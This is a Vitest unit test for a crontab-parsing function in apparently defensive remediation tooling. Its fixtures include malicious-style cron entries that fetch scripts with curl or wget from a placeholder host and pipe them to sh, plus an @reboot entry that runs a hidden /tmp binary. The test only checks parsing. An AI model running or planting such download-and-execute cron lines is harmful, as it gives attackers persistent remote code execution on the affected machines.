import { describe, expect, it } from 'vitest';
import { cronCommand } from '../../../src/remediate/cron-command.js';

// What cron hands to `sh -c` for a line, as vixie cron / cronie parse it (entry.c, do_command.c).

describe('cronCommand', () => {
  it('drops the schedule of a user crontab line, keeping the command as written', () => {
    expect(cronCommand('/var/spool/cron/crontabs/root', '*/15 * * * * (curl -fsSL http://x/raw/a||wget -q -O- http://x/raw/a)|sh'))
      .toBe('(curl -fsSL http://x/raw/a||wget -q -O- http://x/raw/a)|sh');
    expect(cronCommand('/var/spool/cron/root', '0  4\t* * 3   curl  -s "a b"  ')).toBe('curl  -s "a b"  ');
  });

  it('drops the user field in system crontabs, and handles @-schedules', () => {
    expect(cronCommand('/etc/crontab', '*/1 * * * * root wget -q -O - http://x/d.sh | sh > /dev/null 2>&1')).toBe('wget -q -O - http://x/d.sh | sh > /dev/null 2>&1');
    expect(cronCommand('/etc/cron.d/apache', '@reboot root /tmp/.x/run')).toBe('/tmp/.x/run');
    expect(cronCommand('/var/spool/cron/crontabs/bob', '@hourly /tmp/.x/run')).toBe('/tmp/.x/run');
  });

  it('cuts at the first unescaped %, which starts the stdin; \\% is a literal %', () => {
    expect(cronCommand('/var/spool/cron/crontabs/root', '* * * * * date +\\%s%ignored%also')).toBe('date +%s');
  });

  it('returns null for comments, variables, blank and short lines', () => {
    for (const l of ['# m h dom mon dow command', 'SHELL=/bin/sh', 'PATH = /usr/bin', '   ', '* * * * *', '@reboot']) {
      expect(cronCommand('/var/spool/cron/crontabs/root', l)).toBeNull();
    }
  });
});
